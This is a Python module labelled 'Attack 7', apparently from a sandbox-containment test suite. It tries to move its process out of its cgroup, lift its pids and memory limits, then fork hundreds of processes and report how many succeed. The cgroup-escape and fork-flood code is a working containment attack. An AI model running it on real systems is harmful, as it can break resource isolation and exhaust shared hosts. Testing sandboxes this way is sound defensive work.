# Attack 7: leave the run's cgroup or lift its caps (write this process into every cgroup.procs
# under /sys/fs/cgroup, write "max" into its own pids.max and memory limits), then fork 400
# processes and hold them for a few seconds. Reports how many forks succeeded.
import glob


def execute(ctx):
    rep = Report(ctx)
    me = str(os.getpid())
    targets = sorted(set(glob.glob("/sys/fs/cgroup/cgroup.procs") + glob.glob("/sys/fs/cgroup/*/cgroup.procs")))
    own = []
    try:
        for line in read_file("/proc/self/cgroup").decode().splitlines():
            _, controllers, path = line.split(":", 2)
            for c in (controllers.split(",") if controllers else ["", "unified"]):
                own.append(os.path.join("/sys/fs/cgroup", c.replace("name=", ""), path.lstrip("/")))
    except OSError as e:
        rep.add("read /proc/self/cgroup", False, describe(e))
    for d in own:
        parent = os.path.dirname(d.rstrip("/"))
        targets.append(os.path.join(parent, "cgroup.procs"))
        for name, value in (("pids.max", "max"), ("memory.max", "max"), ("memory.limit_in_bytes", "-1")):
            path = os.path.join(d, name)
            if os.path.exists(path):
                rep.run("write %s into %s" % (value, path), lambda path=path, value=value: _write(path, value))
    for path in sorted(set(targets)):
        rep.run("write my pid into " + path, lambda path=path: _write(path, me))
    r, w = os.pipe()
    kids = []
    error = ""
    for _ in range(int(ctx.input["count"])):
        try:
            pid = os.fork()
        except OSError as e:
            error = error or describe(e)
            continue
        if pid == 0:
            os.close(w)
            os.read(r, 1)
            os._exit(0)
        kids.append(pid)
    ctx.emit({"forked": len(kids)})
    time.sleep(float(ctx.input.get("hold_seconds", 4)))
    os.close(w)
    for pid in kids:
        os.waitpid(pid, 0)
    return {"forked": len(kids), "fork_error": error, "attempts": rep.attempts}


def _write(path, value):
    with open(path, "w") as f:
        f.write(value)
    return "written"
